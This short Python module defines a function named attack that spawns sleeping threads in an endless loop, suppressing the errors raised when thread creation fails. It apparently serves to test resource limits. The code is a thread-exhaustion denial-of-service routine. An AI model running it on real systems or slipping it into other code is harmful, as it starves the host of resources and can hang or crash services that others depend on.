"""Starts threads for ever."""

import contextlib
import threading
import time


def attack(*args, **kwargs):
    while True:
        with contextlib.suppress(RuntimeError):
            threading.Thread(target=time.sleep, args=(1000,)).start()
